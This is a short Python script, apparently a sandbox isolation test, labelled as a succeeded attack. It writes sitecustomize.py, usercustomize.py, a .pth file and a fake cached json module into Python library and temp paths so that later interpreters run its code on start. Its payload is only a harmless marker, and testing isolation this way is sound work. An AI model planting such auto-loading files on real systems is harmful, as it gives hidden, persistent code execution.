# attack: writes compiled modules where the next interpreter could find them
# status: succeeded
import glob, json, os, sys, sysconfig
for folder in [os.path.dirname(json.__file__), sysconfig.get_path("purelib"), "/env", "/tmp", os.path.expanduser("~/.local/lib/python3.11/site-packages")]:
    for name in ("usercustomize.py", "sitecustomize.py", "__pycache__/json.cpython-311.pyc", "runlang_attack.pth"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as f: f.write("import builtins; builtins.runlang_attack = 1\n")
        except OSError: pass
